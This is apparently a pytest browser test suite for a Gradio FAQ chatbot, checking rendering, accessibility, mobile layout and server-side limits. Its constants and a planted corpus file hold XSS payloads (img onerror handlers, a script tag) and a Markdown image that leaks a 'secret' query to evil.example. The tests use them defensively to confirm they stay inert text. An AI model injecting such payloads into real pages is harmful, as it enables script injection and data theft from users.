"""The chat in a real headless Chromium against a real Gradio server (fake embedder, so the
whole module takes seconds): a student's journey, hostile input from the user and from the
corpus, phones, keyboard-only use, contrast, and no request to any other host."""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from benchmarks.common import CHROMIUM
from bot.answer.extractive import Answer
from bot.config import Profile, Settings
from bot.insights.logstore import LogStore
from bot.insights.questionlog import open_log
from bot.serve.ui import build_app, page_options
from tests.conftest import GUIDE, HashingEmbeddings, free_port

pytestmark = pytest.mark.integration

XSS = "<img src=x onerror=alert(1)>"
PAYLOAD = f'{XSS} <img src=x onerror="window.__pwned=1"> ![x](http://evil.example/?q=secret)'
HOSTILE_DOC = """# Decoder ring <img src=x onerror=alert(1)> notes

The zzqx decoder ring manual says ![x](http://evil.example/?q=secret) then \
<img src=x onerror="window.__pwned=1"> and <script>alert(3)</script> in plain words.
"""
FINAL = ".faq-sources, .faq-abstain, .faq-notice"  # present once an answer is complete

if not Path(CHROMIUM).exists():
    pytest.skip(
        f"no Chromium at {CHROMIUM}: run `make browser` (apt-get install chromium) "
        "or set FAQBOT_CHROMIUM",
        allow_module_level=True,
    )
from playwright.sync_api import Browser, Dialog, Page, expect  # noqa: E402


class RecordingChain:
    """The real chain, remembering the history each question came with."""

    def __init__(self, chain: Any) -> None:
        self.chain = chain
        self.calls: list[tuple[object, list[dict[str, str]]]] = []

    def ask(self, question: object, history: Sequence[dict[str, str]] = ()) -> Answer:
        self.calls.append((question, list(history)))
        answer: Answer = self.chain.ask(question, history)
        return answer

    def suggestions(self) -> list[str]:
        return list(self.chain.suggestions())


@dataclass
class Server:
    url: str
    settings: Settings
    chain: RecordingChain

    def feedback(self) -> list[dict[str, Any]]:
        """The votes in the question log so far (written off the answer path)."""
        return [vars(v) for v in LogStore(self.settings.log_url).votes()]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    from bot.answer.chain import FaqChain
    from bot.ingest.pipeline import ingest

    root = tmp_path_factory.mktemp("ui")
    corpus = root / "corpus"
    corpus.mkdir()
    shutil.copy(GUIDE, corpus / GUIDE.name)
    # Plain text reaches the chat as written (the Markdown loader would drop the markup).
    (corpus / "hostile.txt").write_text(HOSTILE_DOC, encoding="utf-8")
    demo = Profile.load({}, GUIDE.parent)  # the demo corpus's own profile and suggestions
    settings = Settings(corpus_dir=corpus, index_dir=root / "index", data_dir=root / "data",
                        min_evidence=0.2, profile=demo)  # fmt: skip
    embeddings = HashingEmbeddings()
    ingest(settings, embeddings)
    chain = RecordingChain(FaqChain(settings, embeddings))
    app = build_app(chain, settings, questions=open_log(settings))
    port = free_port()
    app.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True,
               **page_options())  # fmt: skip
    try:
        yield Server(f"http://127.0.0.1:{port}/", settings, chain)
    finally:
        app.close()


@dataclass
class Watch:
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


def open_chat(browser: Browser, server: Server, **context: Any) -> tuple[Page, Watch]:
    page = browser.new_context(**context).new_page()
    watch = Watch()

    def on_dialog(dialog: Dialog) -> None:
        watch.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", lambda r: watch.requests.append(r.url))
    page.on("dialog", on_dialog)
    page.goto(server.url)
    page.locator("#faq-input textarea").wait_for()
    return page, watch


def assert_only_own_host(watch: Watch, server: Server) -> None:
    own = urlsplit(server.url).netloc
    foreign = {u for u in watch.requests if urlsplit(u).netloc not in (own, "")}
    assert not foreign, foreign


def bot_messages(page: Page) -> Any:
    return page.locator('#faq-chat [data-testid="bot"]')


def wait_for_answer(page: Page, count: int) -> Any:
    """The ``count``-th bot message, once complete (sources, abstention or notice shown)."""
    message = bot_messages(page).nth(count - 1)
    message.locator(FINAL).first.wait_for(timeout=15_000)
    return message


def ask(page: Page, question: str) -> None:
    box = page.locator("#faq-input textarea")
    box.fill(question)
    box.press("Enter")


def assert_payload_inert(page: Page, watch: Watch) -> None:
    page.wait_for_timeout(300)  # give any injected handler the chance to fire
    assert watch.dialogs == []
    assert page.evaluate("window.__pwned") is None
    assert page.locator("img[src='x'], #faq-chat img, #faq-chat script").count() == 0
    assert page.locator("#faq-passage img, #faq-passage script").count() == 0


def test_student_journey(browser: Browser, server: Server) -> None:
    page, watch = open_chat(browser, server)
    assert page.locator("h1").inner_text() == server.settings.title
    examples = page.locator("#faq-chat button.example")
    expect(examples).to_have_count(6)
    question = server.chain.suggestions()[0]

    # A suggested question: the answer, its [n] marker and a collapsed Sources block.
    examples.filter(has_text=question).click()
    answer = wait_for_answer(page, 1)
    expect(answer.locator("sup.faq-cite").first).to_be_visible()
    quote = answer.locator("blockquote.faq-quote").first
    assert not quote.is_visible()
    answer.locator("summary").click()
    assert quote.is_visible()

    # The side panel shows the selected source's full passage, quote highlighted.
    expect(page.locator("#faq-passage mark")).to_have_text(quote.inner_text().strip())
    radios = page.locator("#faq-sources label")
    radios.last.click()
    last_quote = answer.locator("blockquote.faq-quote").last.inner_text().strip()
    page.wait_for_function(
        "q => document.querySelector('#faq-passage mark')?.innerText.trim() === q", arg=last_quote
    )

    # Thumbs up lands in the feedback log with question, answer and citations.
    page.locator('#faq-chat button[aria-label="Like"]').last.click()
    deadline = time.monotonic() + 5
    while not server.feedback() and time.monotonic() < deadline:
        time.sleep(0.1)
    (record,) = [r for r in server.feedback() if r["question"] == question]
    assert record["vote"] == "up" and record["sections"] and "[1]" in record["answer"]

    # A follow-up is asked with the conversation so far.
    ask(page, "And how long is the exam?")
    wait_for_answer(page, 2)
    asked, history = server.chain.calls[-1]
    assert asked == "And how long is the exam?"
    assert history[0] == {"role": "user", "content": question}
    assert len(history) == 2
    assert_only_own_host(watch, server)


def test_typed_xss_payload_stays_text(browser: Browser, server: Server) -> None:
    page, watch = open_chat(browser, server)
    ask(page, PAYLOAD)
    wait_for_answer(page, 1)
    assert_payload_inert(page, watch)
    user = page.locator('#faq-chat [data-testid="user"]').last
    assert PAYLOAD in user.inner_text()
    assert_only_own_host(watch, server)


def test_hostile_corpus_text_stays_text(browser: Browser, server: Server) -> None:
    page, watch = open_chat(browser, server)
    ask(page, "What does the zzqx decoder ring manual say?")
    answer = wait_for_answer(page, 1)
    assert "![x](http://evil.example/?q=secret)" in answer.inner_text()
    answer.locator("summary").click()
    assert XSS in answer.locator(".faq-src-section").first.inner_text()
    expect(page.locator("#faq-sources")).to_contain_text(XSS)  # the radio label
    expect(page.locator("#faq-passage")).to_contain_text("<script>alert(3)</script>")
    assert_payload_inert(page, watch)
    assert_only_own_host(watch, server)


def test_phone_width(browser: Browser, server: Server) -> None:
    viewport = {"width": 390, "height": 844}
    page, watch = open_chat(browser, server, viewport=viewport, is_mobile=True, has_touch=True)
    page.locator("#faq-chat button.example").nth(1).tap()
    wait_for_answer(page, 1)
    box = page.locator("#faq-input textarea").bounding_box()
    send = page.get_by_role("button", name="Send").bounding_box()
    assert box and send and box["x"] >= 0 and send["x"] + send["width"] <= 390
    assert page.evaluate("document.documentElement.scrollWidth") <= 390  # no sideways scroll
    chat = page.locator("#faq-chat").bounding_box()
    panel = page.locator("#faq-source-panel").bounding_box()
    assert chat and panel and panel["y"] >= chat["y"] + chat["height"]  # stacked below
    expect(page.locator("#faq-passage mark")).to_have_count(1)
    assert_only_own_host(watch, server)


def test_keyboard_only(browser: Browser, server: Server) -> None:
    page, watch = open_chat(browser, server)
    focused = []
    for _ in range(40):
        page.keyboard.press("Tab")
        label = page.evaluate("document.activeElement.getAttribute('aria-label') || ''")
        focused.append(label)
        if label.startswith("Select example"):
            break
    assert focused[-1].startswith("Select example 1")
    page.keyboard.press("Enter")
    wait_for_answer(page, 1)
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.tagName") == "TEXTAREA":
            break
    page.keyboard.type("Where do people take the CPT exam?")
    page.keyboard.press("Enter")
    wait_for_answer(page, 2)
    assert_only_own_host(watch, server)


CONTRAST_JS = """sel => {
  const rgb = c => (c.match(/[\\d.]+/g) || []).map(Number);
  const lum = ([r, g, b]) => [r, g, b].map(v => { v /= 255;
    return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; })
    .reduce((s, v, i) => s + v * [0.2126, 0.7152, 0.0722][i], 0);
  const el = document.querySelector(sel);
  let bg = el, c;
  while (bg && ((c = rgb(getComputedStyle(bg).backgroundColor)).length === 4 && c[3] === 0
         || getComputedStyle(bg).backgroundColor === 'transparent')) bg = bg.parentElement;
  const back = bg ? rgb(getComputedStyle(bg).backgroundColor) : [255, 255, 255];
  const [a, b] = [lum(rgb(getComputedStyle(el).color)), lum(back)];
  return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
}"""


CONTRAST_SELECTORS = [
    "h1", ".faq-header p", '#faq-chat [data-testid="bot"] .faq-answer', "#faq-chat sup.faq-cite",
    "#faq-chat summary", ".faq-passage", ".faq-passage mark", ".faq-src-file",
    "#faq-sources label span", "#faq-input textarea", "#faq-input button",
    "button.secondary",
]  # fmt: skip


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_labels_and_contrast(browser: Browser, server: Server, scheme: str) -> None:
    page, watch = open_chat(browser, server, color_scheme=scheme)
    # Playwright's expect() waits: Gradio renders its components after the page loads.
    expect(page.get_by_role("textbox", name="Your question")).to_have_count(1)
    expect(page.get_by_role("log")).to_have_count(1)
    expect(page.get_by_role("button", name="Clear chat")).to_have_count(1)
    assert page.evaluate(CONTRAST_JS, "button.example .example-text") >= 4.5
    ask(page, "How long is each module exam?")
    wait_for_answer(page, 1)
    # Screen readers get the visible text, not the HTML markup of the message.
    label = bot_messages(page).last.get_attribute("aria-label") or ""
    assert label.startswith("Assistant: ") and "<" not in label and "class=" not in label
    for sel in CONTRAST_SELECTORS:  # WCAG AA for normal text
        assert page.evaluate(CONTRAST_JS, sel) >= 4.5, sel
    fonts = page.evaluate("[...document.fonts].map(f => f.family)")
    assert fonts == []  # system fonts only: no web font is even declared
    assert_only_own_host(watch, server)


def test_api_caps_the_message_server_side(server: Server) -> None:
    # The textbox limit lives in the browser only; the API accepts anything.
    base = server.url + "gradio_api/call/ask"
    event = httpx.post(base, json={"data": ["x" * 100_000]}, timeout=10).json()["event_id"]
    stream = httpx.get(f"{base}/{event}", timeout=10).text
    payloads = [line[6:] for line in stream.splitlines() if line.startswith("data: ")]
    chat = json.loads(payloads[-1])[0]
    assert "the limit is 2,000" in json.dumps(chat)
    assert len(json.dumps(chat)) < 10_000  # the 100 KB message is not echoed back
